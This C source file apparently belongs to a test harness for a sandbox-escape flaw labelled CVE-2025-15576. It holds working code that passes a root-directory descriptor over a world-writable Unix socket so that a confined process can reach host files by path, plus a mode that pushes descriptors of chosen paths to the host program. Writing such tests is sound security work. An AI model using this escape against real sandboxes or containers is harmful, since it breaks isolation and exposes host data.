/*
 * Two builds that work together (CVE-2025-15576): one offers a descriptor of its root directory over a socket, the other
 * takes it and goes up from there.
 *
 *   pass_directory offer SOCKET          says that it listens, and waits for one taker
 *   pass_directory take SOCKET SECRET    looks for a file by its path on the host
 *
 * And one that leaves something for its host program, if its stdout is a socket:
 *
 *   pass_directory push PATH...          sends a descriptor of each over its stdout
 */
#include <sys/types.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "answer.h"
#include "climb.h"

union control {
	struct cmsghdr header;
	char bytes[CMSG_SPACE(sizeof(int))];
};

static struct msghdr
message_of(struct iovec *data, union control *control)
{
	struct msghdr message;

	memset(&message, 0, sizeof(message));
	memset(control, 0, sizeof(*control));
	message.msg_iov = data;
	message.msg_iovlen = 1;
	message.msg_control = control->bytes;
	message.msg_controllen = sizeof(control->bytes);
	return message;
}

static ssize_t
send_descriptor(int socket, int descriptor)
{
	char byte = 'd';
	struct iovec data = { &byte, 1 };
	union control control;
	struct msghdr message = message_of(&data, &control);
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);

	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(header), &descriptor, sizeof(descriptor));
	return sendmsg(socket, &message, 0);
}

static int
push(int count, char **paths)
{
	for (int i = 0; i < count; i++) {
		int descriptor = open(paths[i], O_RDONLY);
		if (descriptor < 0 || send_descriptor(STDOUT_FILENO, descriptor) != 1) {
			perror(paths[i]);
			return 1;
		}
	}
	return 0;
}

static int
offer(int fd, struct sockaddr_un *address)
{
	int directory = open("/", O_RDONLY | O_DIRECTORY);

	if (bind(fd, (struct sockaddr *)address, sizeof(*address)) != 0 || chmod(address->sun_path, 0777) != 0 ||
	    listen(fd, 1) != 0)
		return tell(-1);
	printf("listening\n");
	fflush(stdout);
	int taker = accept(fd, NULL, NULL);
	return tell(send_descriptor(taker, directory));
}

static int
take(int fd, struct sockaddr_un *address, const char *secret)
{
	char byte;
	struct iovec data = { &byte, 1 };
	union control control;
	struct msghdr message = message_of(&data, &control);
	int directory;

	if (connect(fd, (struct sockaddr *)address, sizeof(*address)) != 0)
		return tell(-1);
	printf("connected\n");
	if (recvmsg(fd, &message, 0) <= 0 || CMSG_FIRSTHDR(&message) == NULL)
		return tell(-1);
	memcpy(&directory, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(directory));
	if (fchdir(directory) != 0)
		return tell(-1);
	return tell_reached(secret);
}

int
main(int argc, char **argv)
{
	struct sockaddr_un address;

	if (argc > 2 && strcmp(argv[1], "push") == 0)
		return push(argc - 2, argv + 2);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (argc < 3 || strlen(argv[2]) >= sizeof(address.sun_path))
		return 2;
	memset(&address, 0, sizeof(address));
	address.sun_family = AF_UNIX;
	strcpy(address.sun_path, argv[2]);
	return argc == 3 ? offer(fd, &address) : take(fd, &address, argv[3]);
}
